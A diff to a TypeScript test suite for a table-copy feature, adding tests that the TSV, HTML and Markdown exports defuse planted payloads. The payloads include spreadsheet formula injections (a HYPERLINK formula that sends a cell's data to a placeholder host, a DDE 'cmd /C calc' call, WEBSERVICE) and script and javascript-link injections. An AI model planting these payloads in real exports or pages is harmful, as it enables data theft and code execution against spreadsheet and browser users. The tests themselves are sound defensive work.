@@ -22,7 +22,7 @@ describe('copying a selection', () => {
     expect(copyAs('tsv', cells, ',').text).toBe(
       [
         'CUS-1\tDupont, "Père" & Fils\t-1,234.50',
-        'CUS-2\t=HYPERLINK("x")\t12',
+        `CUS-2\t'=HYPERLINK("x")\t12`,
         'CUS-3\ta|b\\c d line <b>\t',
       ].join('\n'),
     );
@@ -42,7 +42,7 @@ describe('copying a selection', () => {
     ).toEqual([
       'id\tname\tmrr',
       'CUS-1\tDupont, "Père" & Fils\t-1234.5',
-      'CUS-2\t=HYPERLINK("x")\t12',
+      `CUS-2\t'=HYPERLINK("x")\t12`,
       'CUS-3\ta|b\\c d line <b>\t',
       'x\t{"a":1}\t2026-11-28T13:42:00Z',
     ]);
@@ -76,7 +76,7 @@ describe('copying a selection', () => {
       '| --- | --- | --- |',
       '| CUS-1 | Dupont, "Père" & Fils | -1,234.50 |',
       '| CUS-2 | =HYPERLINK("x") | 12 |',
-      '| CUS-3 | a\\|b\\\\c d line <b> |  |',
+      '| CUS-3 | a\\|b\\\\c d line \\<b\\> |  |',
     ]);
   });
 
@@ -89,6 +89,90 @@ describe('copying a selection', () => {
     expect(html).toContain('>a|b\\c\td<br>line &lt;b&gt;</td>');
     expect(html).not.toContain('<b>');
     expect(html.match(/<tr>/g)).toHaveLength(4);
+  });
+
+  describe('for a spreadsheet, which reads a pasted cell as if typed', () => {
+    const planted: CopiedCells = {
+      columns: [
+        { key: 'name', label: '=cmd|x' },
+        { key: 'note', label: 'Note' },
+        { key: 'phone', label: 'Phone' },
+        { key: 'mrr', label: 'MRR' },
+      ],
+      rows: [
+        {
+          shown: [
+            '=HYPERLINK("http://127.0.0.1:9/?d="&B1,"Studio Moreau")',
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            '+33 1 23 45 67 89',
+            '-5',
+          ],
+          raw: [
+            '=HYPERLINK("http://127.0.0.1:9/?d="&B1,"Studio Moreau")',
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            '+33 1 23 45 67 89',
+            -5,
+          ],
+        },
+        {
+          shown: ['\uFF1DIMAGE("x")', '-2+WEBSERVICE("x")', '+1 (555) 123-4567', '-12,50 €'],
+          raw: ['\uFF1DIMAGE("x")', '-2+WEBSERVICE("x")', '+1 (555) 123-4567', '-12,50 €'],
+        },
+      ],
+    };
+    /** Every text a spreadsheet would be given, cell by cell, from the tab-separated and HTML flavours. */
+    const pastedCells = (format: 'tsv' | 'headers' | 'raw' | 'html') => {
+      const copied = copyAs(format, planted, ',');
+      const html = copied.html ?? '';
+      return [
+        ...copied.text.split('\n').flatMap((line) => line.split('\t')),
+        ...[...html.matchAll(/<t[hd][^>]*>(.*?)<\/t[hd]>/g)].map((match) =>
+          (match[1] ?? '')
+            .replace(/&quot;/g, '"')
+            .replace(/&#39;/g, "'")
+            .replace(/&amp;/g, '&'),
+        ),
+      ];
+    };
+
+    it('never holds a formula in any flavour a spreadsheet reads: the exports’ guard', () => {
+      for (const format of ['tsv', 'headers', 'raw', 'html'] as const) {
+        const live = pastedCells(format).filter((cell) => /^[=@\uFF1D]|^[+-].*[A-Za-z]/u.test(cell));
+        expect(live, format).toEqual([]);
+      }
+      expect(copyAs('tsv', planted, ',').text.split('\n')[0]).toBe(
+        `'=HYPERLINK("http://127.0.0.1:9/?d="&B1,"Studio Moreau")\t'@SUM(1+1)*cmd|' /C calc'!A0\t+33 1 23 45 67 89\t-5`,
+      );
+      expect(copyAs('headers', planted, ',').text.split('\n')[0]).toBe("'=cmd|x\tNote\tPhone\tMRR");
+    });
+
+    it('keeps a phone’s + and a signed amount as they read', () => {
+      const cellsOf = pastedCells('tsv');
+      expect(cellsOf).toContain('+33 1 23 45 67 89');
+      expect(cellsOf).toContain('+1 (555) 123-4567');
+      expect(cellsOf).toContain('-12,50 €');
+      expect(cellsOf).toContain('-5');
+    });
+  });
+
+  it('as Markdown, a value’s links, images and HTML stay text', () => {
+    const copied = copyAs(
+      'markdown',
+      {
+        columns: [{ key: 'name', label: 'Name' }],
+        rows: [
+          { shown: ['<img src=x onerror=alert(1)></table><script>alert(2)</script>'], raw: [''] },
+          {
+            shown: ['[Open the contract](javascript:alert(1)) ![t](http://127.0.0.1:9/pixel.png) *a* `b`'],
+            raw: [''],
+          },
+        ],
+      },
+      ',',
+    ).text;
+    // Every bracket, angle, star and backquote is escaped: none opens markup.
+    expect(copied).not.toMatch(/(?<!\\)[<>[\]*`]/);
+    expect(copied).toContain('\\[Open the contract\\](javascript:alert(1))');
   });
 });
 
